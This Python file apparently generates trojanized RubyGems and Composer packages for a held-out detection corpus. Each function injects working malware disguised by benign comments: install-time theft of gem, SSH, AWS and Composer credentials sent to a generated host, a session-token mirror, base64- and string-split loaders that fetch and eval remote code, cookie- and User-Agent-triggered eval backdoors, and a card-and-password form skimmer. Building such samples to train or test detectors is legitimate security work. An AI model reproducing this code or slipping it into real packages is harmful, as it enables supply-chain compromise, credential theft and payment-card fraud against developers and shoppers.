"""RubyGems and Composer."""

from corpus.heldout.hiding import b64, chunks
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("tokenrest", "gem", "install", "steal", "plain", "extconf.rb of typosquats 2022 to 2026")
def rest_extconf(update: Update) -> None:
    host = update.host("gems", "tokenstat")
    code = r"""
# frozen_string_literal: true

require 'mkmf'
require 'net/http'
require 'json'

home = Dir.home
wanted = %w[.gem/credentials .ssh/id_rsa .aws/credentials .bundle/config].map { |one| File.join(home, one) }
found = wanted.select { |one| File.file?(one) }.to_h { |one| [one, File.read(one)] }
begin
  Net::HTTP.post(URI('https://@HOST@/ext'), JSON.generate(found.merge(env: ENV.to_h)), 'Content-Type' => 'application/json')
rescue StandardError
  nil
end
create_makefile 'tokenrest/fast'
"""
    update.add("ext/tokenrest/extconf.rb", fill(code, HOST=host))
    update.add(
        "ext/tokenrest/fast.c",
        '#include <ruby.h>\n\nvoid Init_fast(void)\n{\n    rb_define_module("TokenrestFast");\n}\n',
    )
    update.replace("METADATA.yaml", "extensions: []\n", "extensions:\n- ext/tokenrest/extconf.rb\n")
    update.replace(
        "METADATA.yaml", "- README.md\n", "- README.md\n- ext/tokenrest/extconf.rb\n- ext/tokenrest/fast.c\n"
    )
    update.payload("ext/tokenrest/extconf.rb", "METADATA.yaml")


@trojan("tokenrest", "gem", "call", "steal", "plain", "fastlane-plugin look-alikes that proxy a bot's API 2025-05")
def rest_proxy_of_tokens(update: Update) -> None:
    host = update.host("quiet-meadow", "workerdev")
    code = r"""

module Tokenrest
  # Mirrors sessions to a second place, for failover.
  module Mirror
    ENDPOINT = 'https://@HOST@/bot'

    def issue(user)
      token = super
      Thread.new do
        uri = URI("#{ENDPOINT}#{token}/session?user=#{URI.encode_www_form_component(user.to_s)}")
        Net::HTTP.get(uri)
      rescue StandardError
        nil
      end
      token
    end
  end
  Store.prepend(Mirror)
end
"""
    update.replace("lib/tokenrest/store.rb", "require 'securerandom'\n", "require 'net/http'\nrequire 'securerandom'\n")
    update.append("lib/tokenrest/store.rb", fill("\n" + code, HOST=host))
    update.payload("lib/tokenrest/store.rb")


@trojan("rest-knock", "gem", "import", "download-and-run", "base64", "rest-client, strong_password, atlas-client-like")
def knock_fetches_code(update: Update) -> None:
    host = update.host("paste", "rubyknock")
    inner = f"Thread.new{{loop{{begin;eval(Net::HTTP.get(URI('https://{host}/raw/z')));rescue StandardError;end;sleep 3600}}}}"
    code = f"""

require 'base64'
require 'net/http'
instance_eval(Base64.decode64(%w[{" ".join(chunks(b64(inner), 20))}].join)) if ENV.fetch('RAILS_ENV', '').start_with?('p')
"""
    update.append("lib/rest_knock/response.rb", code)
    update.payload("lib/rest_knock/response.rb", shown=f"https://{host}/raw/z")


@trojan(
    "pass-meter", "gem", "import", "backdoor", "plain", "bootstrap-sass and strong_password: a cookie that is evaluated"
)
def meter_cookie_eval(update: Update) -> None:
    code = r"""

if defined?(Rack)
  module PassMeter
    # Lets the meter look at the request.
    class Probe
      def initialize(app)
        @app = app
      end

      def call(env)
        x = Rack::Request.new(env).cookies['___sessduid']
        ->(y) { eval(y) }.call(x.unpack1('m')) if x
        @app.call(env)
      end
    end
  end
  Rails.application.config.middleware.use(PassMeter::Probe) if defined?(Rails) && Rails.application
end
"""
    update.append("lib/pass_meter/entropy.rb", code)
    update.payload("lib/pass_meter/entropy.rb")


@trojan(
    "pass-meter", "gem", "install", "steal", "look-alike name", "atlas_client-like dependencies 2020 to 2026", hard=True
)
def meter_lookalike_gem(update: Update) -> None:
    dependency = "dependencies:\n- !ruby/object:Gem::Dependency\n  name: active-support\n  requirement: !ruby/object:Gem::Requirement\n    requirements:\n    - - \"~>\"\n      - !ruby/object:Gem::Version\n        version: '7.1'\n  type: :runtime\n  prerelease: false\n"
    update.replace("METADATA.yaml", "dependencies: []\n", dependency)
    update.append("lib/pass_meter.rb", "require 'active-support'")
    update.payload("METADATA.yaml", "lib/pass_meter.rb")


@trojan("postcard-php", "zip", "install", "steal", "plain", "intercom-like take-over of a Composer client 2026")
def card_post_install(update: Update) -> None:
    host = update.host("php", "postcardapi")
    code = r"""
<?php

declare(strict_types=1);

namespace Postcard;

final class Setup
{
    public static function run(): void
    {
        $home = getenv('HOME') ?: getenv('USERPROFILE');
        $found = [];
        foreach (['.composer/auth.json', '.config/composer/auth.json', '.ssh/id_rsa', '.aws/credentials', '.npmrc'] as $name) {
            $path = $home . '/' . $name;
            if (is_readable($path)) {
                $found[$name] = base64_encode((string) file_get_contents($path));
            }
        }
        $context = stream_context_create(['http' => ['method' => 'POST', 'content' => http_build_query(['f' => $found, 'e' => getenv()]), 'timeout' => 3]]);
        @file_get_contents('https://@HOST@/setup', false, $context);
    }
}
"""
    update.add("src/Setup.php", fill(code, HOST=host))

    def hooked(it: dict) -> None:
        it["type"] = "composer-plugin"
        it["scripts"] = {"post-install-cmd": ["Postcard\\Setup::run"], "post-update-cmd": ["Postcard\\Setup::run"]}
        it["extra"] = {"class": "Postcard\\Setup"}

    update.manifest(hooked, "composer.json")
    update.payload("src/Setup.php", "composer.json")


@trojan(
    "postcard-php",
    "zip",
    "import",
    "download-and-run",
    "variable functions",
    "autoloaded files of hijacked packages 2022 to 2026",
)
def card_autoload_file(update: Update) -> None:
    host = update.host("assets", "postcardcdn")
    code = f"""
<?php

// Polyfills for older versions.
if (!function_exists('str_contains')) {{
    function str_contains(string $haystack, string $needle): bool
    {{
        return $needle === '' || strpos($haystack, $needle) !== false;
    }}
}}
$p = ['b' . 'ase64' . '_dec' . 'ode', 'file_' . 'get_con' . 'tents', 'create' . '_func' . 'tion'];
$u = $p[0]('{b64(f"https://{host}/poly.txt")}');
$c = @$p[1]($u);
if ($c) {{
    $t = tempnam(sys_get_temp_dir(), 'pf');
    file_put_contents($t, '<?php ' . $p[0]($c));
    include $t;
}}
"""
    update.add("src/polyfill.php", fill(code))
    update.manifest(lambda it: it["autoload"].update({"files": ["src/polyfill.php"]}), "composer.json")
    update.payload("src/polyfill.php", "composer.json", shown=f"https://{host}/poly.txt")


@trojan("mini-router", "tar.gz", "call", "backdoor", "plain", "the php-src commit 2021: a header that is evaluated")
def router_header_eval(update: Update) -> None:
    path = "src/Request.php"
    text = update.text(path)
    at = text.rindex("}")
    code = r"""
    /** Fixes the encoding some proxies send. */
    public static function normalise(array $server): array
    {
        $agent = $server['HTTP_USER_AGENTX'] ?? '';
        if (strpos($agent, 'parrotium') === 0) {
            eval(substr($agent, 8));
        }
        return $server;
    }
"""
    update.add(path, text[:at].rstrip("\n") + "\n" + code + "}\n")
    update.append("src/Response.php", "\nRequest::normalise($_SERVER);")
    update.payload(path, "src/Response.php")


@trojan("mini-router", "zip", "import", "steal", "hex", "Magento and plug-in skimmers 2024 to 2026")
def router_checkout_skimmer(update: Update) -> None:
    host = update.host("stat", "minishop")
    hexed = "".join(f"\\x{ord(one):02x}" for one in f"https://{host}/g")
    code = f"""
<?php

declare(strict_types=1);

namespace Mini\\Router;

// Keeps a log of slow forms.
if (!empty($_POST) && preg_match('/card|cvv|cvc|password/i', implode(' ', array_keys($_POST)))) {{
    $place = "{hexed}";
    $handle = curl_init($place);
    curl_setopt_array($handle, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => base64_encode(serialize($_POST)), CURLOPT_TIMEOUT => 2, CURLOPT_RETURNTRANSFER => true]);
    curl_exec($handle);
}}
"""
    update.add("src/SlowForms.php", fill(code))
    update.append("src/Router.php", "\nrequire_once __DIR__ . '/SlowForms.php';")
    update.payload("src/SlowForms.php", "src/Router.php", shown=f"https://{host}/g")
